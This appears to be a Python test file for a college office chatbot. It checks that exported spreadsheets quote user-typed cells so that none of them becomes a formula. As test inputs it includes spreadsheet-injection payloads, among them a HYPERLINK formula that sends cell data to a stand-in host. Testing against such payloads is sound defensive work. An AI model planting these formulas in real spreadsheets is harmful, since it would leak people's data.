"""No cell a person typed becomes a formula in any spreadsheet the bot writes.

Each export is driven as people would (cards, chat, the upload page), with
``=HYPERLINK("http://x?d="&B2,"x")`` and the other OWASP trigger characters in
the cells; the produced file is downloaded through its real signed link, opened
with openpyxl, and no cell may be a formula while the text survives, quoted.
Exports: 1.1 merged 异常名单, 4.7 merged 评教完成情况 (the same merge as 1.6
考勤表), 1.7 each 系部's part of the 补考名单, 1.4 the 调停课记录表 xlsx.
"""
from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook

from handlers.data.inert import inert, inert_row
from tests.support.files import ABNORMAL, EVALUATION, JPEG, MAKEUP
from tests.support.flows import finish_office_tasks, merged_card, run_of
from tests.support.harness import card_text, card_url, local_path
from tests.support.pages import link_in, upload
from tests.support.people import COUNSELORS, OFFICE, SECRETARIES

FORMULA = '=HYPERLINK("http://x?d="&B2,"x")'
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def text_xlsx(header: list[str], *rows: list[str]) -> bytes:
    """An xlsx whose cells are text cells, even those starting with '=' (as Excel keeps typed text)."""
    wb = Workbook()
    ws = wb.active
    for r, values in enumerate([header, *rows], start=1):
        for c, value in enumerate(values, start=1):
            cell = ws.cell(row=r, column=c, value=value)
            cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


async def fetch_inert(w, path: str) -> list[list]:
    """Download through the real page; assert the headers and that no cell is a formula."""
    resp = await w.client.get(path)
    assert resp.status == 200, await resp.text()
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    assert resp.headers["Content-Type"].startswith(XLSX_TYPE)
    wb = load_workbook(io.BytesIO(await resp.read()))  # not data_only: a formula would show as one
    rows = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))), \
                    (cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
    return rows


def cells(rows: list[list]) -> set:
    return {v for row in rows for v in row}


def test_inert_is_owasp_quoting_for_xlsx_and_csv():
    assert [inert(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert inert("张三") == "张三" and inert(32) == "32" and inert(None) == "" and inert("a=b") == "a=b"
    buf = io.StringIO()
    csv.writer(buf).writerow(inert_row([FORMULA, "ok"]))
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'" + FORMULA, "ok"]


async def test_merged_abnormal_students_are_inert(wecom):
    w = wecom
    await w.say(OFFICE, "启动 1.1")
    run = await run_of(w, "1.1")
    await finish_office_tasks(w, run)
    await finish_office_tasks(w, run)
    for counselor in COUNSELORS:
        await w.image(counselor, JPEG)
    rows = [[f"24{i:05d}", "张三", "机电2401", "休学", bad] for i, bad in enumerate(HOSTILE)]
    rows.append(["2499999", FORMULA, "@机电", "-退学", "+因病"])
    for userid in SECRETARIES.values():
        status, html = await upload(w, card_url(w.last_card(userid)), text_xlsx(ABNORMAL, *rows))
        assert status == 200 and "已收到" in html, html
    got = cells(await fetch_inert(w, local_path(card_url(merged_card(w)))))
    # the reader trims a cell's surrounding blanks, so a leading tab or CR arrives as "=1+1": still quoted
    assert {"'" + v.strip() for v in HOSTILE} <= got and {"'@机电", "'-退学", "'+因病"} <= got


async def test_merged_evaluation_rates_are_inert(wecom):
    w = wecom
    await w.say(OFFICE, "启动 4.7")
    run = await run_of(w, "4.7")
    await finish_office_tasks(w, run)
    for _ in range(2):
        for secretary in SECRETARIES.values():
            await w.click(secretary, w.last_card(secretary), "办结")
    for secretary in SECRETARIES.values():
        status, html = await upload(w, card_url(w.last_card(secretary)), text_xlsx(EVALUATION, [FORMULA, "95%"]))
        assert status == 200, html
    assert "'" + FORMULA in cells(await fetch_inert(w, local_path(card_url(merged_card(w, words="评教")))))


async def test_makeup_parts_are_inert(wecom):
    w = wecom
    await w.say(OFFICE, "启动 1.7")
    await w.say(OFFICE, "1")
    run = await run_of(w, "1.7")
    await finish_office_tasks(w, run)
    ask = w.last_card(OFFICE)
    status, html = await upload(w, card_url(ask), text_xlsx(
        MAKEUP, ["2024001", FORMULA, "机电2401", "机电工程系", "-高等数学"],
        ["2024002", "李四", "@机电2402", "机电工程系", "+电工基础"]))
    assert status == 200, html
    got = cells(await fetch_inert(w, local_path(card_url(w.last_card("linms")))))
    assert {"'" + FORMULA, "'-高等数学", "'@机电2402", "'+电工基础"} <= got


async def test_adjust_record_is_inert(wecom):
    w = wecom
    teacher, head, leader, office = "sunlt", "chenzr", "zhaogm", "wangjw"
    await w.say(teacher, "调课")
    for answer in ("电工基础", "计网2401", "12月3日 第3-4节", "实训楼A301", "12月4日 第1-2节", "不变", FORMULA):
        await w.say(teacher, answer)
    assert "请核对调停课申请" in w.last_text(teacher)
    await w.say(teacher, "确认")
    await w.click(head, w.last_card(head), "同意")
    await w.click(leader, w.last_card(leader), "同意")
    await w.click(office, w.last_card(office), "办结")
    record_card = w.last_card(office)
    assert "教务处盖章记录表" in card_text(record_card)
    page = local_path(card_url(record_card))
    assert page.startswith("/record/"), page
    path, query = page.split("?", 1)
    got = cells(await fetch_inert(w, f"{path}.xlsx?{query}"))
    assert "'" + FORMULA in got
